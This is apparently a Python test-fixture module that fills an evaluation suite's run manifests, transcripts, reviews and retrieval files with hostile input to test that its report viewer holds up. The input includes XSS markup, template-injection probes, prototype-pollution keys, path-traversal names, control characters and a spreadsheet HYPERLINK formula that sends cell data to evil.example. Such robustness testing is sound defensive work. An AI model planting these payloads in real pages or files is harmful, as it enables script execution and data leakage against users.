"""Run folders whose every free field holds text that wants to run, restyle, reorder or break what shows it."""

import gzip
import json

from pagekit import write_run

from evalsuite.records import CriterionResult
from evalsuite.reporting.review import unit_sha256
from evalsuite.storage import trial_folder

MARKUP = (
    "</script><script>pwned=1;alert(1)</script><!--<script>--><img src=http://evil.example/ onerror=alert(1)>"
    '<svg onload=alert(1)><a href="javascript:alert(1)">x</a></style><style>*{display:none}</style></textarea></title>'
    "\"><b onclick=alert(1) style=display:none>' &lt;i&gt; &#x202e; &amp; <!-- ]]> {{ 7*7 }} {% raw %} ${7*7} `7` %s %25 %zz ~ # / ? & + ;"
)
SIGNS = "\u202e\u2066\u2069\u200b\x00\x07\x1b[31m\x9b2J\x85\u2028\u2029\ud800 \udc00\ufeff\ufffe😈"
EVIL = MARKUP + SIGNS
WHOLE = EVIL.translate({0xD800: None, 0xDC00: None})  # run.json may not hold half characters
FORMULA = '=HYPERLINK("http://evil.example/"&A1)'
LONG = "W" * 10_000
NAMES = [
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "%",
    "~",
    "a~b%7Ec",
    "#/verdicts?x=1&y=2",
    " ",
    "é\u0301",
    "C-1\nC-2",
]
PATH = "area/%2F~#?&=+ </script><script>pwned=1</script>\u202e\x1b[2J😈"  # a slash path that a folder can be called


def extras(text=EVIL):
    return {"__proto__": {"pwned": 1}, "constructor": text, WHOLE: text, "nested": [[text], {text: [None, text]}]}


def hostile_lab(folder, run_id):
    """Every free field of a lab run's files is hostile."""
    units = []
    tasks = [EVIL, PATH, *NAMES, LONG]
    for task in tasks:
        units.append(hostile_trial(task))
        units += [hostile_criterion(task, name, i) for i, name in enumerate([EVIL, *NAMES, LONG])]
    manifest = {
        **extras(WHOLE),
        "schema_version": 1,
        "kind": "lab",
        "run_id": run_id,
        "identity": WHOLE,
        "suite": {
            "name": WHOLE,
            "version": WHOLE,
            "sha256": WHOLE,
            "files": {WHOLE: WHOLE, "__proto__": WHOLE},
            **extras(WHOLE),
        },
        "system": {"name": WHOLE, "role": WHOLE, "agent": WHOLE, **extras(WHOLE)},
        "protocol": {"id": WHOLE, "profile": WHOLE, "judges": [WHOLE, "__proto__"], "view": WHOLE, **extras(WHOLE)},
        "environment": extras(WHOLE),
        "status": "complete",
        "started_at": WHOLE,
        "finished_at": WHOLE,
        "notes": [WHOLE, FORMULA],
        "error": WHOLE,
        "usage": {"tokens": WHOLE, "seconds": WHOLE, "cost": WHOLE, **extras(WHOLE)},
        "files": {WHOLE: WHOLE},
    }
    run = write_run(folder, manifest, units)
    place = trial_folder(run, PATH, 1)
    for part in ("deliverables", "extracted"):
        (place / part).mkdir(parents=True)
    for name in ("a <b onclick=x>\u202e.md", "__proto__"):
        (place / "deliverables" / name).write_bytes(EVIL.encode("utf-8", "surrogatepass"))
        (place / "extracted" / f"{name}.txt").write_bytes(f"{EVIL} {EVIL} {LONG}".encode("utf-8", "surrogatepass"))
    (place / "transcript.jsonl").write_bytes(b"\n".join(hostile_transcript()))
    (run / "reviews.jsonl").write_text(
        "".join(json.dumps(hostile_review(run_id, sha)) + "\n" for sha in ("0" * 24, _seen(units)))
    )
    return run


def hostile_trial(task):
    return {
        **extras(),
        "unit": "trial",
        "task": task,
        "trial": 1,
        "stop_reason": "error",
        "finished": False,
        "error": EVIL,
        "turns": 10**30,
        "seconds": 1e308,
        "tokens": {"input": 10**18, "output": 1, EVIL: 1, "__proto__": 2},
        "documents_total": 1,
        "documents_read": [EVIL, "__proto__"],
        "tool_calls": {EVIL: 1, "__proto__": 2, "constructor": 3},
        "context": [{EVIL: 10, "__proto__": 5, "constructor": 7}, {"system": 10**15}],
        "output": {"a <b onclick=x>\u202e.md": EVIL, "__proto__": EVIL}
        if task.startswith("area/")
        else {EVIL: EVIL, "../../x": EVIL},
        "output_sha256": EVIL,
        "grounding": {
            "claims": 7,
            "unsupported": [EVIL, {"kind": EVIL, "text": EVIL, "where": EVIL}, {EVIL: EVIL}, None, 7],
            **extras(),
        },
        "flags": [{"flag": EVIL, "where": EVIL, "text": EVIL}, {"__proto__": EVIL}, {EVIL: EVIL}],
    }


def hostile_criterion(task, name, i):
    vote = {
        "judge": [EVIL, "__proto__", "constructor"][i % 3],
        "verdict": ["pass", "fail"][i % 2],
        "reasoning": EVIL,
        "quotes": [EVIL, "", FORMULA, "W" * 100],
        "seconds": 1e300,
        "tokens": {"input": 10**18, EVIL: 1},
        "cost": 1e300,
        "key": EVIL,
        **extras(),
    }
    return {
        **extras(),
        "unit": "criterion",
        "task": task,
        "trial": 1,
        "id": name,
        "title": [EVIL, FORMULA, LONG][i % 3],
        "verdict": ["error", "fail", "pass"][i % 3],
        "error_kind": EVIL if i % 3 == 0 else None,
        "votes": [vote, {"judge": "other", "verdict": "error", "error_kind": EVIL, "reasoning": LONG}],
        "resolved_file": [EVIL, "a <b onclick=x>\u202e.md", "__proto__"][i % 3],
        "resolution_rule": EVIL,
        "contested": EVIL,
        "sources": [EVIL],
        "earlier": [vote],
    }


def _seen(units):
    unit = next(unit for unit in units if (unit["task"], unit.get("id")) == (PATH, "constructor"))
    return unit_sha256(CriterionResult.model_validate(unit))


def hostile_review(run_id, sha):
    return {
        **extras(WHOLE),
        "unit": "review",
        "run": run_id,
        "task": PATH,
        "trial": 1,
        "criterion": "constructor",
        "unit_sha256": sha,
        "machine": "fail",
        "verdict": "pass",
        "reason": WHOLE,
        "reviewer": WHOLE[-100:],
        "at": "2026-05-01T12:00:00Z",
    }


def hostile_transcript():
    lines = [
        {"role": "system", "text": EVIL},
        {"role": EVIL, "turn": EVIL, "text": EVIL, EVIL: EVIL},
        {"role": "__proto__", "content": [{"type": "text", "text": EVIL}]},
        {
            "role": "assistant",
            "text": EVIL,
            "tool_calls": [
                {"name": EVIL, "args": EVIL},
                {"function": {"name": EVIL, "arguments": json.dumps({EVIL: EVIL})}},
                None,
                7,
                EVIL,
            ],
        },
        {"role": "assistant", "text": {"a": EVIL}, "tool_calls": EVIL},
        {"role": "tool", "name": EVIL, "result": EVIL},
        {"role": "tool", "name": {"x": EVIL}, "result": {EVIL: [EVIL]}, "error": True},
        {"role": {"x": EVIL}, "result": None, "exit_code": 1},
        {"type": 7, "text": 7, "turn": None},
        {"role": None, "tool": None, "content": None},
        {"raw": EVIL, "text": "not this"},
        {"text": EVIL * 50},
        {},
        {"toString": 1, "valueOf": 1, "__proto__": {"text": EVIL}},
    ]
    yield from (json.dumps(line).encode() for line in lines)
    yield EVIL.replace("\n", " ").encode("utf-8", "surrogatepass")
    yield from (
        b"null",
        b"[]",
        b"7",
        b'"text"',
        b"\xff\xfe",
        b"[" * 50_000,
        b'{"a": NaN}',
        b'{"role": "user", "text": "' + b"x" * 1_000_000 + b'"}',
        b'{"torn',
    )


def hostile_retrieval(folder, run_id, system=WHOLE):
    names = [EVIL, *NAMES, LONG]
    units = [
        {
            **extras(),
            "unit": "query",
            "id": name,
            "mechanism": names[i % 3],
            "group": EVIL if i % 2 else f"__proto__{i}",
            "measures": {"nDCG@10": i / 20, EVIL: 1e308, "__proto__": 0.5, "constructor": -3.0, "R@10": 0.5},
            "judged@10": 1e308,
            "top": [[EVIL, 1e308, 10**18], ["__proto__", -1.5, None], [f"{LONG}{i}", 0, -3]],
            "missing": i == 3,
            "text": [EVIL, LONG, FORMULA][i % 3],
            "twin_of": names[(i + 1) % len(names)],
            "relevant": 10**15 if i else -7,
            "missed": [["constructor", None, 3], [EVIL * 3, 10**15, 10**15]] + [[f"d{n}", n, 1] for n in range(20)],
        }
        for i, name in enumerate(names)
    ]
    manifest = {
        **extras(WHOLE),
        "kind": "retrieval",
        "run_id": run_id,
        "suite": {"name": WHOLE, "version": WHOLE, "sha256": "__proto__", "files": {WHOLE: WHOLE}},
        "system": {"name": system, "role": WHOLE, "facts": extras(WHOLE), **extras(WHOLE)},
        "protocol": {"id": "__proto__", "view": WHOLE, "depth": WHOLE, **extras(WHOLE)},
        "environment": extras(WHOLE),
        "status": "complete",
        "started_at": WHOLE,
        "notes": [WHOLE],
        "usage": {"tokens": extras(WHOLE), "seconds": {WHOLE: WHOLE}, "cost": 1e300},
    }
    run = write_run(folder, manifest, units)
    (run / "artifacts").mkdir(exist_ok=True)
    documents = [
        {"_id": name, "title": EVIL, "text": f"{EVIL} {LONG}"} for name in (EVIL, "__proto__", "constructor", "d3")
    ]
    with gzip.open(run / "artifacts" / "texts.jsonl.gz", "wt") as stream:
        stream.writelines(json.dumps(document) + "\n" for document in documents)
    return run
